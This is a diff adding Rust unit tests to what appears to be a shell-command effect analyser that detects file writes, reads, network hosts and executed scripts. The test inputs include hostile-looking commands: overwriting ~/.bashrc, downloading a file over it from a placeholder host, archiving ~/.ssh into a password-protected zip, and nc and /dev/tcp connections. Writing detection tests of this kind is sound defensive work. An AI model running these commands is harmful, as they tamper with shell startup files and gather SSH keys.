@@ -420,3 +420,83 @@ fn printed(command: &Command) -> Option<String> {
         _ => None,
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn of(text: &str) -> Effects {
+        let analysis = proctor_shell::analyse(text);
+        effects(analysis.commands.last().unwrap())
+    }
+
+    fn written(text: &str) -> Vec<String> {
+        of(text).writes.into_iter().map(|(path, _)| path).collect()
+    }
+
+    #[test]
+    fn a_write_is_a_write_whatever_the_tool() {
+        for text in [
+            "echo x >> ~/.bashrc",
+            "tee -a ~/.bashrc",
+            "sed -i 's/a/b/' ~/.bashrc",
+            "cp evil ~/.bashrc",
+            "install -m 644 evil ~/.bashrc",
+            "dd if=evil of=~/.bashrc",
+            "curl -sSLo ~/.bashrc https://x.example/a",
+            "truncate -s 0 ~/.bashrc",
+            "vim ~/.bashrc",
+        ] {
+            assert!(written(text).contains(&"~/.bashrc".to_owned()), "{text}");
+        }
+        for text in [
+            "cat ~/.bashrc",
+            "sed -n 1p ~/.bashrc",
+            "echo ~/.bashrc 2>&1",
+        ] {
+            assert!(written(text).is_empty(), "{text}: {:?}", written(text));
+        }
+    }
+
+    #[test]
+    fn archives_read_their_members_and_write_themselves() {
+        for text in [
+            "tar czf a.tgz ~/.ssh",
+            "tar -cz -f a.tgz ~/.ssh",
+            "zip -P pw a.tgz ~/.ssh",
+        ] {
+            let found = of(text);
+            assert!(found.reads.contains(&"~/.ssh".to_owned()), "{text}");
+            assert!(written(text).contains(&"a.tgz".to_owned()), "{text}");
+        }
+        assert!(written("tar xzf a.tgz").is_empty());
+        assert!(of("tar cz ~/.ssh").reads.contains(&"~/.ssh".to_owned()));
+    }
+
+    #[test]
+    fn hosts_and_scripts_are_found() {
+        let host = |text: &str| of(text).hosts.first().cloned();
+        assert_eq!(
+            host("curl https://a:b@X.example:8443/p"),
+            Some(("x.example".into(), Some(8443)))
+        );
+        assert_eq!(
+            host("scp f bob@h.example:/tmp"),
+            Some(("h.example".into(), None))
+        );
+        assert_eq!(host("nc 10.0.0.1 99"), Some(("10.0.0.1".into(), Some(99))));
+        assert_eq!(
+            host("cat < /dev/tcp/10.0.0.1/80"),
+            Some(("10.0.0.1".into(), Some(80)))
+        );
+        assert_eq!(of("bash run.sh a").runs, ["run.sh"]);
+        assert_eq!(of("/tmp/x --quiet").runs, ["/tmp/x"]);
+        assert!(of("python3 -c 'print(1)'").runs.is_empty());
+    }
+
+    #[test]
+    fn a_command_of_a_million_words_costs_no_more() {
+        let text = format!("rm {}", "a/b ".repeat(50_000));
+        assert!(of(&text).deletes.len() <= MOST);
+    }
+}
